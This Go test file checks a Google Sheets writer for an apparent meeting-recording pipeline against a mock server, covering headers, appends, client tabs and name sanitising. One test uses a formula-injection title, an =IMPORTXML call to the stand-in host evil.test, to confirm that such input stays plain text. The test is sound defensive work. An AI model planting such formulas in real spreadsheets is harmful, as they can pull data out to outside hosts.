package destinations

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"

	"github.com/aura-webinar/meeting-pipeline/internal/credentials"
)

type sheetsServer struct {
	mu          sync.Mutex
	tabs        map[string]bool // title -> header written
	requests    []string
	appended    map[string][][]interface{}
	inputOption []string
	denyAddTab  bool
}

func newSheetsServer(tabs ...string) *sheetsServer {
	srv := &sheetsServer{tabs: map[string]bool{}, appended: map[string][][]interface{}{}}
	for _, t := range tabs {
		srv.tabs[t] = false
	}
	return srv
}

// tabOf extracts the tab title from a values path like /v4/spreadsheets/x/values/'Acme'!A1:append.
func tabOf(path string) string {
	rng := path[strings.Index(path, "/values/")+len("/values/"):]
	rng = strings.TrimSuffix(rng, ":append")
	tab := rng[:strings.LastIndex(rng, "!")]
	if strings.HasPrefix(tab, "'") {
		tab = strings.ReplaceAll(strings.Trim(tab, "'"), "''", "'")
	}
	return tab
}

func (s *sheetsServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	path := r.URL.Path
	s.requests = append(s.requests, r.Method+" "+path)
	w.Header().Set("Content-Type", "application/json")
	switch {
	case strings.HasSuffix(path, ":batchUpdate"):
		if s.denyAddTab {
			w.WriteHeader(http.StatusForbidden)
			_, _ = io.WriteString(w, `{"error":{"code":403,"message":"read-only"}}`)
			return
		}
		var body struct {
			Requests []struct {
				AddSheet struct {
					Properties struct {
						Title string `json:"title"`
					} `json:"properties"`
				} `json:"addSheet"`
			} `json:"requests"`
		}
		_ = json.NewDecoder(r.Body).Decode(&body)
		for _, req := range body.Requests {
			s.tabs[req.AddSheet.Properties.Title] = false
		}
		_, _ = io.WriteString(w, `{"spreadsheetId":"sheet-1"}`)
	case !strings.Contains(path, "/values/") && r.Method == http.MethodGet:
		var titles []string
		for t := range s.tabs {
			titles = append(titles, fmt.Sprintf(`{"properties":{"title":%q}}`, t))
		}
		_, _ = io.WriteString(w, `{"sheets":[`+strings.Join(titles, ",")+`]}`)
	case strings.HasSuffix(path, ":append"):
		tab := tabOf(path)
		var body struct {
			Values [][]interface{} `json:"values"`
		}
		_ = json.NewDecoder(r.Body).Decode(&body)
		s.appended[tab] = append(s.appended[tab], body.Values...)
		s.inputOption = append(s.inputOption, r.URL.Query().Get("valueInputOption"))
		n := len(s.appended[tab]) + 1
		_, _ = fmt.Fprintf(w, `{"updates":{"updatedRange":"%s!A%d:K%d","updatedRows":1}}`, tab, n, n)
	case r.Method == http.MethodGet:
		if s.tabs[tabOf(path)] {
			_, _ = io.WriteString(w, `{"values":[["Date"]]}`)
			return
		}
		_, _ = io.WriteString(w, `{}`)
	case r.Method == http.MethodPut:
		s.tabs[tabOf(path)] = true
		_, _ = io.WriteString(w, `{"updatedRows":1}`)
	default:
		w.WriteHeader(http.StatusNotFound)
	}
}

func (s *sheetsServer) count(method string) int {
	n := 0
	for _, r := range s.requests {
		if strings.HasPrefix(r, method+" ") {
			n++
		}
	}
	return n
}

func (s *sheetsServer) countSuffix(suffix string) int {
	n := 0
	for _, r := range s.requests {
		if strings.HasSuffix(r, suffix) {
			n++
		}
	}
	return n
}

func newTestSheets(t *testing.T, srv *sheetsServer) *Sheets {
	t.Helper()
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	return NewSheets("Meetings", option.WithEndpoint(ts.URL+"/"), option.WithoutAuthentication(), option.WithHTTPClient(ts.Client()))
}

func TestSheetsWritesHeaderOnceThenAppends(t *testing.T) {
	srv := newSheetsServer("Meetings")
	s := newTestSheets(t, srv)
	creds := credentials.Credentials{SheetID: "sheet-1"}
	require.True(t, s.Configured(creds))

	ref, err := s.Write(context.Background(), creds, testRecording())
	require.NoError(t, err)
	assert.Equal(t, "Meetings!A2:K2", ref)

	_, err = s.Write(context.Background(), creds, testRecording())
	require.NoError(t, err)

	assert.Equal(t, 1, srv.count(http.MethodPut))
	require.Len(t, srv.appended["Meetings"], 2)
	assert.Equal(t, "Launch sync", srv.appended["Meetings"][0][2])
	assert.Equal(t, []string{"RAW", "RAW"}, srv.inputOption)
}

func TestSheetsFormulaLikeTitleStaysText(t *testing.T) {
	srv := newSheetsServer("Meetings")
	rec := testRecording()
	rec.Title = `=IMPORTXML("https://evil.test","//a")`

	_, err := newTestSheets(t, srv).Write(context.Background(), credentials.Credentials{SheetID: "sheet-1"}, rec)
	require.NoError(t, err)
	assert.Equal(t, []string{"RAW"}, srv.inputOption)
	assert.Equal(t, rec.Title, srv.appended["Meetings"][0][2])
}

func TestSheetsClientTab(t *testing.T) {
	tag := func(s string) *string { return &s }
	tests := []struct {
		name       string
		clientTag  *string
		existing   []string
		denyAddTab bool
		wantRef    string
		wantErr    string
		wantTabs   map[string]int
		wantAdds   int
	}{
		{
			name:     "untagged writes master only",
			existing: []string{"Meetings"},
			wantRef:  "Meetings!A2:K2",
			wantTabs: map[string]int{"Meetings": 1},
		},
		{
			name:      "new client tab is created with a header",
			clientTag: tag("Acme Corp"),
			existing:  []string{"Meetings"},
			wantRef:   "Meetings!A2:K2; Acme Corp!A2:K2",
			wantTabs:  map[string]int{"Meetings": 1, "Acme Corp": 1},
			wantAdds:  1,
		},
		{
			name:      "existing client tab is reused",
			clientTag: tag("Globex"),
			existing:  []string{"Meetings", "Globex"},
			wantRef:   "Meetings!A2:K2; Globex!A2:K2",
			wantTabs:  map[string]int{"Meetings": 1, "Globex": 1},
		},
		{
			name:      "tag with reserved characters",
			clientTag: tag("R&D: EMEA/APAC"),
			existing:  []string{"Meetings"},
			wantRef:   "Meetings!A2:K2; R&D EMEA APAC!A2:K2",
			wantTabs:  map[string]int{"Meetings": 1, "R&D EMEA APAC": 1},
			wantAdds:  1,
		},
		{
			name:       "client tab failure names the master row",
			clientTag:  tag("Initech"),
			existing:   []string{"Meetings"},
			denyAddTab: true,
			wantErr:    `client tab "Initech" (master row Meetings!A2:K2 written)`,
			wantTabs:   map[string]int{"Meetings": 1},
			wantAdds:   1,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv := newSheetsServer(tt.existing...)
			srv.denyAddTab = tt.denyAddTab
			rec := testRecording()
			rec.ClientTag = tt.clientTag

			ref, err := newTestSheets(t, srv).Write(context.Background(), credentials.Credentials{SheetID: "sheet-1"}, rec)
			if tt.wantErr != "" {
				require.Error(t, err)
				assert.Contains(t, err.Error(), tt.wantErr)
			} else {
				require.NoError(t, err)
				assert.Equal(t, tt.wantRef, ref)
			}
			got := map[string]int{}
			for tab, rows := range srv.appended {
				got[tab] = len(rows)
			}
			assert.Equal(t, tt.wantTabs, got)
			assert.Equal(t, tt.wantAdds, srv.countSuffix(":batchUpdate"))
			for tab := range tt.wantTabs {
				assert.True(t, srv.tabs[tab], "header written on %s", tab)
			}
		})
	}
}

func TestSheetsNotConfigured(t *testing.T) {
	assert.False(t, NewSheets("").Configured(credentials.Credentials{SheetID: "x"}))
	assert.False(t, newTestSheets(t, newSheetsServer()).Configured(credentials.Credentials{}))
}

func TestClientTab(t *testing.T) {
	tests := []struct{ tag, want string }{
		{"Acme", "Acme"},
		{"  Acme   Corp ", "Acme Corp"},
		{"a/b\\c[d]*?:", "a b c d"},
		{"///", ""},
		{strings.Repeat("x", 120), strings.Repeat("x", 100)},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, ClientTab(tt.tag), tt.tag)
	}
}

func TestRow(t *testing.T) {
	row := Row(testRecording())
	require.Len(t, row, len(SheetHeader))
	assert.Equal(t, "2024-04-01 10:00", row[0])
	assert.Equal(t, "60", row[3])
	assert.Equal(t, "- Launch on May 1", row[8])
	assert.Equal(t, "- Draft announcement (Aiko, Apr 20)\n- Book venue", row[9])
}
